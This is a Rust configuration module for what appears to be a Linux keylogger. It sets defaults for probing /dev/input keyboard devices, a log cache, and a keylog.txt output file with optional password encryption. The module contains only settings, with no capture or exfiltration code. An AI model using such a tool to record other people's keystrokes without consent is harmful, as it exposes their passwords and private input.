use crate::cache::LogTarget;
use std::fmt;
use std::path::PathBuf;
use zeroize::Zeroizing;

pub const DEFAULT_LOG_PATH: &str = "keylog.txt";
pub const DEFAULT_INPUT_DIR: &str = "/dev/input";
pub const DEFAULT_DEVICE_PREFIX: &str = "event";
pub const DEFAULT_MAX_DEVICES: usize = 4;
pub const DEFAULT_CACHE_CAPACITY: usize = 1024;

/// Everything a capture session needs to know.
#[derive(Clone)]
pub struct CaptureConfig {
    /// The directory scanned for input devices.
    pub input_dir: PathBuf,
    /// Only entries of `input_dir` starting with this prefix are probed.
    pub device_prefix: String,
    /// Discovery stops accepting keyboards beyond this many.
    pub max_devices: usize,
    /// The size of the log cache in bytes.
    pub cache_capacity: usize,
    pub log_path: PathBuf,
    /// Encrypt the log with this password.
    pub password: Option<Zeroizing<String>>,
}

impl Default for CaptureConfig {
    fn default() -> Self {
        Self {
            input_dir: PathBuf::from(DEFAULT_INPUT_DIR),
            device_prefix: DEFAULT_DEVICE_PREFIX.into(),
            max_devices: DEFAULT_MAX_DEVICES,
            cache_capacity: DEFAULT_CACHE_CAPACITY,
            log_path: PathBuf::from(DEFAULT_LOG_PATH),
            password: None,
        }
    }
}

impl CaptureConfig {
    pub fn log_target(&self) -> LogTarget {
        match &self.password {
            Some(password) => LogTarget::encrypted(&self.log_path, password.as_str()),
            None => LogTarget::plain(&self.log_path),
        }
    }
}

impl fmt::Debug for CaptureConfig {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.debug_struct("CaptureConfig")
            .field("input_dir", &self.input_dir)
            .field("device_prefix", &self.device_prefix)
            .field("max_devices", &self.max_devices)
            .field("cache_capacity", &self.cache_capacity)
            .field("log_path", &self.log_path)
            .field("encrypted", &self.password.is_some())
            .finish()
    }
}
